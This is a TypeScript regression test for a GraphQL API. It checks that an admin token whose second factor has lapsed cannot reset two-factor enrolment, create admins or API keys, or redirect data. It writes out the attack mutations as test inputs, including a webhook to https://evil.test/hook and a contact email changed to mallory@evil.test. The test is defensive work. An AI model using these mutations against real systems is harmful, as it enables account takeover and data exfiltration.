import { base32Decode, base32Encode, totp } from '../../auth/totp';
import { signUserToken } from '../../auth/user-token';
import { SYSTEM_ACTORS } from '../../contract/actor';
import { UserRole } from '../../contract/enums';
import { Customer } from '../../entities/customer.entity';
import { WebhookSubscription } from '../../entities/webhook-subscription.entity';
import { enrolKnownSecret, totpSealKey } from '../../users/two-factor.service';
import { codes, PASSWORD, SECRETS, startApiHarness, type ApiHarness } from '../api/api-harness';

/**
 * Step-up (#17 probe: "step-up bypass for … API key creation"). Found on the live demo: an admin's
 * bearer token whose second factor had lapsed (STEP_UP_REQUIRED for `createApiKey`) reset its own
 * two-factor sign-in with `resetTwoFactor`, and the same token then created an API key: a user
 * without two-factor sign-in has nothing to step up, and a reset ended sessions but not tokens.
 * The same token could create an admin whose password it chose. Now changing accounts or the
 * two-factor rules needs step-up, and a token proved under an enrolment that no longer exists is
 * refused.
 */
const SECRET = {
  [UserRole.ADMIN]: Buffer.from('step-up-admin-seed-20b'),
  [UserRole.MANAGER]: Buffer.from('step-up-manager-seed-2'),
};

describe('step-up cannot be side-stepped (#17 probe)', () => {
  let h: ApiHarness;
  const now = () => Math.floor(Date.now() / 1000);
  const tokenOf = (role: UserRole.ADMIN | UserRole.MANAGER, mfa: number) =>
    `Bearer ${signUserToken(SECRETS.tokenSecret, { sub: h.userIds[role], role, name: role, exp: now() + 3600, mfa })}`;
  const enrolled = async (role: UserRole) => {
    const [row] = (await h.db.dataSource.query('SELECT totp_enabled_at AS at FROM users WHERE id = ?', [
      h.userIds[role],
    ])) as Array<{ at: Date | null }>;
    return row.at !== null;
  };
  /** `login` with the password and the authenticator's code, as a script signs in. */
  const login = async (role: UserRole.ADMIN | UserRole.MANAGER) => {
    const answer = await h.call<{ login: { token: string } }>(
      'mutation ($e: String!, $p: String!, $c: String) { login(email: $e, password: $p, code: $c) { token } }',
      {
        e: `${role.toLowerCase()}@recon.test`,
        p: PASSWORD,
        c: totp(base32Decode(base32Encode(SECRET[role])), Date.now() / 1000),
      },
    );
    expect(codes(answer)).toEqual([]);
    return `Bearer ${answer.data!.login.token}`;
  };

  beforeAll(async () => {
    h = await startApiHarness('sec_step_up_bypass', { twoFactorRoles: [UserRole.MANAGER, UserRole.ADMIN] });
    for (const role of [UserRole.ADMIN, UserRole.MANAGER] as const)
      await enrolKnownSecret(
        h.db.dataSource,
        totpSealKey(SECRETS.tokenSecret),
        h.userIds[role],
        SECRET[role],
        SYSTEM_ACTORS.demo,
      );
    await h.db.dataSource
      .getRepository(Customer)
      .save({ code: 'STEP1', name: '客户 STEP1', currency: 'CNY', contactEmail: 'ap@step1.test' });
    // Enrolled long ago: a token proved ten minutes ago was proved under this enrolment.
    await h.db.dataSource.query('UPDATE users SET totp_enabled_at = totp_enabled_at - INTERVAL 1 DAY');
  });
  afterAll(() => h?.stop());

  it('an admin token whose second factor lapsed can change no account, no two-factor rule and make no key', async () => {
    // Proved at sign-in ten minutes ago: a stolen token, or a desk left unlocked.
    const lapsed = tokenOf(UserRole.ADMIN, now() - 600);
    const attempts: Array<[string, Record<string, unknown>]> = [
      ['mutation ($id: ID!) { resetTwoFactor(id: $id) { id } }', { id: h.userIds.ADMIN }],
      ['mutation ($id: ID!) { resetTwoFactor(id: $id) { id } }', { id: h.userIds.MANAGER }],
      ['mutation { setTwoFactorRequiredRoles(roles: [CLERK]) }', {}],
      [
        'mutation ($i: NewUserInput!) { createUser(input: $i) { id } }',
        {
          i: {
            email: 'mallory@recon.test',
            displayName: 'Mallory',
            role: 'ADMIN',
            password: 'a long chosen password 42',
          },
        },
      ],
      ['mutation ($id: ID!) { updateUser(id: $id, role: ADMIN) { id } }', { id: h.userIds.CLERK }],
      ['mutation { createApiKey(name: "exfil", scopes: ["read"]) { key } }', {}],
      // Statement links (confirm or dispute the account) would go to the attacker's address.
      [
        'mutation { updateCustomerSettings(code: "STEP1", contactEmail: "mallory@evil.test") { version } }',
        {},
      ],
      // The account's events would flow to the attacker's receiver.
      ['mutation { createWebhookSubscription(name: "exfil", url: "https://evil.test/hook") { secret } }', {}],
    ];
    for (const [query, variables] of attempts)
      expect([query, codes(await h.call(query, variables, lapsed))]).toEqual([query, ['STEP_UP_REQUIRED']]);
    expect(await enrolled(UserRole.ADMIN)).toBe(true);
    expect(await enrolled(UserRole.MANAGER)).toBe(true);
    const [users] = (await h.db.dataSource.query(
      "SELECT COUNT(*) AS n FROM users WHERE email = 'mallory@recon.test' OR (role = 'ADMIN' AND id = ?)",
      [h.userIds.CLERK],
    )) as Array<{ n: string }>;
    expect(Number(users.n)).toBe(0);
    const customer = await h.db.dataSource.getRepository(Customer).findOneByOrFail({ code: 'STEP1' });
    expect(customer.contactEmail).toBe('ap@step1.test');
    expect(await h.db.dataSource.getRepository(WebhookSubscription).count()).toBe(0);
    // Settings that send nothing anywhere need no step-up.
    const rules = await h.call(
      'mutation { updateCustomerSettings(code: "STEP1", ruleSettings: { dateWindowDays: 5 }) { version } }',
      {},
      lapsed,
    );
    expect(codes(rules)).toEqual([]);
  });

  it('a reset ends the tokens proved under the old enrolment; a sign-in after enrolling again works', async () => {
    const manager = await login(UserRole.MANAGER);
    const ME = '{ me { role twoFactorEnabled } }';
    expect(codes(await h.call(ME, {}, manager))).toEqual([]);
    // A fresh second factor: the admin may reset the manager's (a lost phone).
    const admin = await login(UserRole.ADMIN);
    const reset = await h.call(
      'mutation ($id: ID!) { resetTwoFactor(id: $id) { id } }',
      { id: h.userIds.MANAGER },
      admin,
    );
    expect(codes(reset)).toEqual([]);
    // The manager's token spoke for the enrolment that ended: refused, it cannot enrol another.
    expect(codes(await h.call(ME, {}, manager))).toEqual(['UNAUTHENTICATED']);
    expect(codes(await h.call('mutation { beginTwoFactorEnrolment { secret } }', {}, manager))).toEqual([
      'UNAUTHENTICATED',
    ]);
    // Enrolled again (a new phone): a token proved before it still speaks for nothing; a new sign-in does.
    await enrolKnownSecret(
      h.db.dataSource,
      totpSealKey(SECRETS.tokenSecret),
      h.userIds.MANAGER,
      SECRET[UserRole.MANAGER],
      SYSTEM_ACTORS.demo,
    );
    expect(codes(await h.call(ME, {}, tokenOf(UserRole.MANAGER, now() - 120)))).toEqual(['UNAUTHENTICATED']);
    expect(codes(await h.call(ME, {}, await login(UserRole.MANAGER)))).toEqual([]);
  });
});
